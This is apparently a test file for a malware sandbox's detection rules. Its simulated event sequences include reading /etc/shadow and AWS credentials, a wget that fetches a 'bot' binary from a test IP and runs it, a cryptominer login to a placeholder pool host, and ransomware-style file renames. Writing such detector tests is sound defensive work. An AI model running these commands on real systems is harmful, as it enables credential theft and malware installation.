// The built-in rule pack: every rule is well-formed, triggers on its malicious sequence and
// stays silent on a benign look-alike. Sequences run through the real SemanticState.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { builtinRulePaths, createRuleDetector, loadRuleFiles } from '../../src/engine/rules/index.js';
import type { RuleSet } from '../../src/engine/rules/index.js';
import { CASES } from './cases.js';
import { Sim, firedRules } from './sim.js';

let pack: RuleSet;

const fired = (run: (s: Sim) => void): Set<string> => firedRules(pack, run);

test('the built-in pack loads without diagnostics and has at least 60 rules', async () => {
  const { ruleset, diagnostics } = await loadRuleFiles(builtinRulePaths());
  assert.deepEqual(diagnostics, []);
  assert.ok(ruleset.rules.length >= 60, `only ${ruleset.rules.length} rules`);
  pack = ruleset;
});

test('every rule has an id, a description, a severity and ATT&CK technique ids', () => {
  const ids = new Set<string>();
  for (const r of pack.rules) {
    assert.match(r.id, /^ST-[A-Z0-9]+-\d{3}$/, r.name);
    assert.ok(!ids.has(r.id), `duplicate id ${r.id}`);
    ids.add(r.id);
    assert.ok(r.description.length > 20, `${r.id} description`);
    assert.ok(r.attack.length > 0 && r.attack.every((t) => /^T\d{4}(\.\d{3})?$/.test(t)), `${r.id} ATT&CK ids`);
  }
  // And the rule pack covers the tactics the issue names.
  const tactics = new Set(pack.rules.flatMap((r) => r.tags.filter((t) => t.startsWith('mitre_'))));
  for (const t of ['mitre_execution', 'mitre_persistence', 'mitre_privilege_escalation', 'mitre_defense_evasion', 'mitre_credential_access',
    'mitre_discovery', 'mitre_lateral_movement', 'mitre_command_and_control', 'mitre_collection', 'mitre_exfiltration', 'mitre_impact']) {
    assert.ok(tactics.has(t), `no rule for ${t}`);
  }
});

test('every rule has a trigger case and a benign case', () => {
  const covered = new Set(CASES.map((c) => c.id));
  const missing = pack.rules.map((r) => r.id).filter((id) => !covered.has(id));
  assert.deepEqual(missing, []);
});

for (const c of CASES) {
  test(`${c.id}: fires on its trigger, not on the benign action`, () => {
    const hit = fired(c.trigger);
    assert.ok(hit.has(c.id), `${c.id} did not fire; fired: ${[...hit].join(', ')}`);
    const quiet = fired(c.benign);
    assert.ok(!quiet.has(c.id), `${c.id} fired on the benign action`);
  });
}

test('the caught-connection rules see inside TLS the sample let the sandbox decrypt (HTTPS upload, Stratum over TLS), and not inside TLS it refused', () => {
  const tls = (clear: string | undefined) => fired((s) => {
    const a = s.lookup('pool.example.test');
    s.connect(1, a, 443, -115);
    s.caught(a, 443, Sim.clientHello('pool.example.test'), clear);
  });
  assert.ok(tls('{"id":1,"method":"login","params":{"login":"4AbC","pass":"x"}}\n').has('ST-C2-012'));
  assert.ok(tls('POST /up HTTP/1.1\r\nHost: pool.example.test\r\nContent-Length: 2\r\n\r\nhi').has('ST-EXF-002'));
  const refused = tls(undefined);
  assert.ok(!refused.has('ST-C2-012') && !refused.has('ST-EXF-002'));
  // the ClientHello is TLS on a web port, not a custom protocol
  assert.ok(!refused.has('ST-C2-013'));
});

test('findings carry evidence: sequence numbers, pid and the matched fields', () => {
  const s = new Sim();
  const p = s.run('/usr/bin/cat', ['cat', '/etc/shadow']);
  s.open(p, '/etc/shadow');
  const d = createRuleDetector(pack);
  for (const e of s.events) d.onEvent(e);
  const f = d.finish().find((x) => x.rule === 'ST-CRD-001');
  assert.ok(f);
  assert.equal(f.severity, 'high');
  assert.deepEqual(f.attack, ['T1003.008']);
  assert.equal(f.pid, p);
  const ev = f.evidence[0]!;
  assert.equal(ev.seq, s.events.at(-1)!.ev.seq);
  assert.equal(ev.event, 'openat');
  assert.equal(ev.fields['fd.name'], '/etc/shadow');
  assert.equal(ev.fields['proc.name'], 'cat');
  assert.match(f.output ?? '', /file=\/etc\/shadow .*command=cat \/etc\/shadow/);
});

test('ST-C2-007 names the file run in both of its branches: the program a successful exec ran, and the drop the kernel refused', () => {
  const chain = (run: (s: Sim) => void): string => {
    const s = new Sim();
    const w = s.run('/usr/bin/wget', ['wget', '-O', '/tmp/bot', 'http://203.0.113.9/bot']);
    s.open(w, '/tmp/bot', 0o1101);
    run(s);
    const d = createRuleDetector(pack);
    for (const e of s.events) d.onEvent(e);
    return d.finish().find((f) => f.rule === 'ST-C2-007')?.output ?? '';
  };
  assert.match(chain((s) => s.run('/tmp/bot', ['/tmp/bot'])), /exe=\/tmp\/bot file=\/tmp\/bot result=SUCCESS /);
  assert.match(chain((s) => s.sys(1, 'execve', [0, 0, 0], -8, { path: '/tmp/bot', argv: ['/tmp/bot'] })), /file=\/tmp\/bot result=ENOEXEC /);
});

test('a session caught from a dual-stack socket (Java\'s: an IPv4-mapped connect) is judged with the process that connected, and its connect names the domain', () => {
  const s = new Sim();
  const java = s.run('/usr/bin/java', ['java', '-jar', 'm.jar']);
  const a = s.lookup('pool.example.test');
  s.connect(java, `::ffff:${a}`, 3333, -115);
  s.caught(a, 3333, '{"id":1,"method":"login","params":{"login":"4AbC","pass":"x"}}\n');
  const d = createRuleDetector(pack, { dnsName: (ip) => s.dns.nameOf(ip) });
  for (const e of s.events) d.onEvent(e);
  d.onSessions?.(s.sessions);
  const found = d.finish();
  const stratum = found.find((f) => f.rule === 'ST-C2-012');
  assert.equal(stratum?.pid, java, JSON.stringify(stratum));
  assert.match(found.find((f) => f.rule === 'ST-C2-001')?.output ?? '', /->198\.18\.\d+\.\d+:3333 domain=pool\.example\.test /);
});

test('a rule matching many events yields one finding per process with a count and capped evidence', () => {
  const s = new Sim();
  for (let i = 0; i < 50; i++) s.open(1, '/root/.aws/credentials');
  const d = createRuleDetector(pack);
  for (const e of s.events) d.onEvent(e);
  const fs = d.finish().filter((x) => x.rule === 'ST-CRD-003');
  assert.equal(fs.length, 1);
  assert.equal(fs[0]!.count, 50);
  assert.ok(fs[0]!.evidence.length <= 8);
});

test('thresholds honour their time window', () => {
  const s = new Sim();
  for (let i = 0; i < 30; i++) {
    s.rename(1, `/home/user/f${i}`, `/home/user/f${i}.enc`);
    s.wait(2e9); // one rename every 2 s: never 25 within 30 s
  }
  const d = createRuleDetector(pack);
  for (const e of s.events) d.onEvent(e);
  assert.ok(!d.finish().some((f) => f.rule === 'ST-IMP-002'));
});

test('a program written during the analysis and run by a relative path counts as dropped', () => {
  const s = new Sim();
  // ld and the shell work in /root (the sim's cwd): ./stage2 is the file ld wrote.
  const ld = s.run('/usr/bin/ld', ['ld', '-o', 'stage2']);
  s.open(ld, '/root/stage2', 0o1102);
  s.run('./stage2', ['./stage2']);
  const d = createRuleDetector(pack);
  for (const e of s.events) d.onEvent(e);
  assert.ok(d.finish().some((f) => f.rule === 'ST-EXE-005'));
});

test('evidence and output keep a bounded head of huge sample-controlled strings', () => {
  const s = new Sim();
  const big = 'A'.repeat(100_000);
  const p = s.run('/usr/bin/grep', ['grep', 'password', big]);
  s.open(p, '/etc/shadow');
  const d = createRuleDetector(pack);
  for (const e of s.events) d.onEvent(e);
  for (const f of d.finish()) {
    assert.ok((f.output ?? '').length <= 2049, f.rule);
    for (const ev of f.evidence) for (const v of Object.values(ev.fields)) assert.ok(typeof v !== 'string' || v.length <= 513, f.rule);
  }
});

test('failed exec attempts (a shell searching $PATH) are not program starts', () => {
  const s = new Sim();
  const py = s.run('/usr/bin/python3', ['python3', 'a.py']);
  const sh = s.run('/bin/sh', ['sh', '-c', 'uname'], { ppid: py });
  s.sys(sh, 'execve', [0, 0, 0], -2, { path: '/usr/local/bin/uname', argv: ['uname'] });
  const d = createRuleDetector(pack);
  for (const e of s.events) d.onEvent(e);
  const f = d.finish().filter((x) => x.rule === 'ST-EXE-008');
  assert.equal(f.length, 1, 'the shell start counts once');
  assert.equal(f[0]!.count, 1);
});
